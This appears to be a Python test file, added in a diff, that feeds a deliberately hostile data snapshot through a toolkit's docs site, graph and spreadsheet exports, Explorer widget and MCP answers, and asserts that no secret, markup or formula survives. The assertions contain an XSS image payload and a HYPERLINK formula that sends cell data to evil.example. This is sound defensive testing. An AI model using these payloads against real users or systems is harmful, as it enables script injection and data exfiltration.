@@ -1,0 +1,327 @@
+"""The hostile snapshot (`hostile_estate`) through every output (issue 22), each read back
+by a reader we did not write: the docs site built by `mkdocs build --strict` and opened in
+Chromium (no dialog fires, no request leaves the machine), DOT by `dot`, GraphML and GEXF
+by an XML parser, XLSX by openpyxl, Mermaid by mermaid-cli where npm is available; the
+diff's outputs, the Explorer's HTML and the MCP answers show no secret."""
+
+from __future__ import annotations
+
+import csv
+import html
+import json
+import re
+import shutil
+import subprocess
+import sys
+import warnings
+import xml.etree.ElementTree as ET
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+import iptoolkit as ipt
+from iptoolkit.docsite import write_docs
+from iptoolkit.docsite.navigation import NAV_TITLE
+
+from .browser.lab import CHROMIUM, chromium_page
+from .hostile_estate import NAMES, SCRIPT, SECRETS, hostile_estate
+
+FORMULA_START = ("=", "+", "-", "@")
+
+
+@pytest.fixture(scope="module")
+def estate() -> ipt.Estate:
+    return hostile_estate()
+
+
+def _no_secret(text: str, where: str) -> None:
+    for secret in SECRETS:
+        assert secret not in text, f"{secret} in {where}"
+
+
+# -- the docs site ---------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory, estate: ipt.Estate) -> Path:
+    folder = tmp_path_factory.mktemp("hostile-docs")
+    previous = ipt.Estate.from_raw(
+        [dict(raw, name=f"{raw.get('name')} old") for raw in estate.raw_profiles]
+    )
+    write_docs(estate, folder, previous=previous, workers=1)
+    return folder
+
+
+def test_mkdocs_yml_is_valid_yaml_with_inert_titles(site: Path) -> None:
+    config = yaml.safe_load((site / "mkdocs.yml").read_text(encoding="utf-8"))
+    assert config["theme"] == {"name": "mkdocs", "highlightjs": False}
+    partners = next(entry["Partners"] for entry in config["nav"] if "Partners" in entry)
+    titles = [next(iter(entry)) for entry in partners]
+    pages = [next(iter(entry.values())) for entry in partners]
+    assert len(pages) == len(set(pages)) == len(NAMES), "one page per partner, none shared"
+    assert all("<" not in title and len(html.unescape(title)) <= NAV_TITLE for title in titles)
+    assert "&lt;img src=x onerror=alert(document.domain) &gt;" in titles
+    assert not any(ch in (site / "mkdocs.yml").read_text() for ch in "\x00\x7f\x85\uffff")
+
+
+def test_groups_that_collide_by_case_and_punctuation_get_pages_of_their_own(site: Path) -> None:
+    config = yaml.safe_load((site / "mkdocs.yml").read_text(encoding="utf-8"))
+    groups = next(entry["Groups"] for entry in config["nav"] if "Groups" in entry)
+    pages: list[str] = []
+
+    def walk(entries: list[Any]) -> None:
+        for entry in entries:
+            [value] = entry.values()
+            walk(value) if isinstance(value, list) else pages.append(value)
+
+    walk(groups)
+    assert len(pages) == len(set(pages)) >= 2 * len(NAMES)  # a name, its subgroup (and `/`)
+    on_disk = {p.relative_to(site / "docs").as_posix() for p in (site / "docs").glob("groups/*.md")}
+    assert set(pages) == on_disk
+
+
+def test_no_page_carries_a_secret_or_a_control_character(site: Path) -> None:
+    partner_pages = sorted((site / "docs" / "partners").glob("*.md"))
+    assert len(partner_pages) == len(NAMES)
+    for path in (site / "docs").rglob("*"):
+        if path.suffix in (".md", ".yml", ".csv", ".svg", ".css"):
+            text = path.read_text(encoding="utf-8")
+            _no_secret(text, str(path))
+            assert "\x00" not in text and "\x7f" not in text, path
+    charts = 0
+    for path in (site / "docs").rglob("*.md"):  # Mermaid reads directives in its charts
+        for chart in re.findall(r"```mermaid\n(.*?)```", path.read_text("utf-8"), re.DOTALL):
+            charts += 1
+            assert "%%" not in chart.replace("% %", ""), path
+    assert charts > len(NAMES)
+
+
+@pytest.fixture(scope="module")
+def built(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    out = tmp_path_factory.mktemp("hostile-site")
+    mkdocs = Path(sys.executable).with_name("mkdocs")
+    result = subprocess.run(
+        [str(mkdocs), "build", "--strict", "-f", str(site / "mkdocs.yml"), "-d", str(out)],
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
+    assert result.returncode == 0, result.stderr
+    return out
+
+
+@pytest.mark.browser
+@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian's chromium")
+def test_the_built_site_runs_no_script_of_a_name_and_asks_nothing_off_the_machine(
+    built: Path,
+) -> None:
+    pages = [built / "index.html", *sorted((built / "partners").glob("*/index.html"))]
+    pages += sorted((built / "groups").glob("*/index.html"))[:6]
+    dialogs: list[str] = []
+    remote: list[str] = []
+    with chromium_page({"width": 1200, "height": 900}) as (page, errors):
+        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+
+        def route(request_route: Any) -> None:
+            url = request_route.request.url
+            if not url.startswith(("file://", "data:", "about:")):
+                remote.append(url)
+                request_route.abort()
+            else:
+                request_route.continue_()
+
+        page.route("**/*", route)
+        for path in pages:
+            page.goto(path.as_uri())
+            page.wait_for_load_state("load")
+            assert page.locator("img[src='x']").count() == 0, f"an <img> from a name in {path}"
+        page.goto(pages[1].as_uri())
+        assert (
+            "<img src=x onerror=alert(document.domain) >" in page.locator(".navbar").text_content()
+        )
+        page.screenshot(path=str(built.parent / "hostile-site.png"))
+    assert dialogs == [], dialogs
+    assert remote == [], remote
+    assert not [e for e in errors if "hljs" in e], errors
+
+
+# -- the exports, read by their own parsers ---------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def exports(tmp_path_factory: pytest.TempPathFactory, estate: ipt.Estate) -> dict[str, Path]:
+    folder = tmp_path_factory.mktemp("hostile-exports")
+    names = ["csv", "xlsx", "graphml", "gexf", "dot", "mmd", "md", "svg"]
+    written = {}
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # too big for GitHub's Mermaid: said, and irrelevant
+        for name in names:
+            options = {"title": SCRIPT} if name in ("dot", "mmd", "md") else {}
+            written[name] = ipt.export(estate, folder / f"estate.{name}", **options)
+    written["raw.csv"] = ipt.export(estate, folder / "raw.csv", csv_safe=False)
+    return written
+
+
+def test_no_export_carries_a_secret(exports: dict[str, Path]) -> None:
+    for name, path in exports.items():
+        if name != "xlsx":
+            _no_secret(path.read_text(encoding="utf-8"), name)
+
+
+@pytest.mark.skipif(shutil.which("dot") is None, reason="needs graphviz's dot")
+def test_dot_reads_the_dot_export(exports: dict[str, Path]) -> None:
+    result = subprocess.run(
+        ["dot", "-Tsvg", str(exports["dot"])], capture_output=True, text=True, timeout=120
+    )
+    assert result.returncode == 0, result.stderr
+    assert "Warning" not in result.stderr and "Error" not in result.stderr, result.stderr
+    ET.fromstring(result.stdout)  # the SVG dot wrote is XML
+
+
+def test_an_xml_parser_reads_graphml_gexf_and_svg(exports: dict[str, Path]) -> None:
+    for name in ("graphml", "gexf", "svg"):
+        root = ET.parse(exports[name]).getroot()
+        assert root is not None
+    import networkx as nx
+
+    assert nx.read_graphml(exports["graphml"]).number_of_nodes() > 0
+    assert nx.read_gexf(exports["gexf"]).number_of_nodes() > 0
+
+
+def test_xlsx_holds_every_name_as_text_never_a_formula(exports: dict[str, Path]) -> None:
+    import openpyxl
+
+    book = openpyxl.load_workbook(exports["xlsx"])
+    seen = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
+                if isinstance(cell.value, str):
+                    _no_secret(cell.value, f"{sheet.title}!{cell.coordinate}")
+                    seen.add(cell.value)
+    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in seen
+
+
+def test_csv_neutralises_formula_prefixes_unless_asked_not_to(exports: dict[str, Path]) -> None:
+    def cells(path: Path) -> list[str]:
+        with path.open(encoding="utf-8", newline="") as file:
+            return [cell for row in list(csv.reader(file))[1:] for cell in row]
+
+    safe = cells(exports["csv"])
+    assert not [cell for cell in safe if cell.startswith(FORMULA_START)]
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in safe
+    raw = cells(exports["raw.csv"])
+    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in raw
+
+
+def test_mermaid_labels_carry_no_directive_or_control_character(exports: dict[str, Path]) -> None:
+    for name in ("mmd", "md"):
+        text = exports[name].read_text(encoding="utf-8")
+        assert "%%" not in text.replace("% %", ""), name
+        assert "\x00" not in text and "\uffff" not in text
+    front = exports["mmd"].read_text(encoding="utf-8").split("---")[1]
+    assert yaml.safe_load(front)["title"].startswith("<img")
+
+
+@pytest.fixture(scope="module")
+def mmdc(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """mermaid-cli installed into a temporary folder (skipped without npm or chromium)."""
+    if shutil.which("npm") is None or not Path(CHROMIUM).exists():
+        pytest.skip("needs npm and chromium for mermaid-cli")
+    folder = tmp_path_factory.mktemp("mmdc")
+    result = subprocess.run(
+        ["npm", "install", "--prefix", str(folder), "--no-audit", "--no-fund",
+         "@mermaid-js/mermaid-cli"],
+        capture_output=True, text=True, timeout=600,
+        env={**__import__("os").environ, "PUPPETEER_SKIP_DOWNLOAD": "1"},
+    )  # fmt: skip
+    if result.returncode != 0:
+        pytest.skip(f"npm could not install mermaid-cli: {result.stderr[-300:]}")
+    config = folder / "puppeteer.json"
+    config.write_text(
+        json.dumps(
+            {"executablePath": CHROMIUM, "args": ["--headless", "--no-sandbox", "--disable-gpu"]}
+        )
+    )
+    return folder
+
+
+@pytest.mark.slow
+def test_mermaid_cli_draws_the_hostile_chart(
+    mmdc: Path, exports: dict[str, Path], tmp_path: Path
+) -> None:
+    svg = tmp_path / "chart.svg"
+    result = subprocess.run(
+        [str(mmdc / "node_modules" / ".bin" / "mmdc"), "-p", str(mmdc / "puppeteer.json"),
+         "-i", str(exports["mmd"]), "-o", str(svg)],
+        capture_output=True, text=True, timeout=300,
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr  # a chart Mermaid cannot parse fails here
+    text = svg.read_text(encoding="utf-8")
+    assert "Syntax error in text" not in text and 'class="error-icon"' not in text
+    ET.fromstring(text)
+    assert "<img src=x" not in text  # the name is text, not an element
+
+
+# -- diff, Explorer, MCP ---------------------------------------------------------------------
+
+
+def test_the_diff_outputs_show_no_secret_and_csv_no_formula(
+    estate: ipt.Estate, tmp_path: Path
+) -> None:
+    changed = ipt.Estate.from_raw(
+        [
+            dict(raw, name=f"={raw.get('name')}", description=f"/x?token={SECRETS[1]}")
+            for raw in estate.raw_profiles
+        ]
+    )
+    changes = ipt.diff(estate, changed)
+    for suffix in ("md", "json", "csv"):
+        path = ipt.export(changes, tmp_path / f"changes.{suffix}")
+        _no_secret(path.read_text(encoding="utf-8"), suffix)
+    with (tmp_path / "changes.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file))[1:]
+    assert rows and not [c for row in rows for c in row if c.startswith(FORMULA_START)]
+
+
+def test_the_explorers_details_show_no_secret_and_no_markup(estate: ipt.Estate) -> None:
+    from iptoolkit.widgets import Explorer
+
+    explorer = Explorer(estate, diagram=False, debounce=0)
+    for node in ("profile:P-000", "profile:P-000-b", "channel:4000", "partner:100"):
+        explorer.show_detail(node)
+        shown = explorer.detail.widget.value if hasattr(explorer.detail.widget, "value") else ""
+        shown = shown or _html_of(explorer.detail.widget)
+        _no_secret(shown, node)
+        assert SCRIPT not in shown and "<img src=x" not in shown, node
+
+
+def _html_of(widget: Any) -> str:
+    parts = []
+    stack = [widget]
+    while stack:
+        current = stack.pop()
+        if isinstance(getattr(current, "value", None), str):
+            parts.append(current.value)
+        stack.extend(getattr(current, "children", ()))
+    return "\n".join(parts)
+
+
+def test_the_mcp_answers_show_no_secret(estate: ipt.Estate, tmp_path: Path) -> None:
+    from .test_mcp import _run
+
+    path = tmp_path / "hostile.json"
+    estate.save(path)
+
+    async def script(session: Any) -> list[Any]:
+        calls = [("get_item", {"id": f"P-{n:03d}"}) for n in range(len(NAMES))]
+        calls += [("get_item", {"id": "channel:4000"}), ("find_profiles", {"limit": 100})]
+        calls += [("findings", {}), ("summary", {})]
+        return [await session.call_tool(name, args) for name, args in calls]
+
+    for result in _run([str(path)], script):
+        assert not result.is_error, result.content
+        _no_secret(json.dumps(result.structured_content) + result.content[0].text, "MCP")
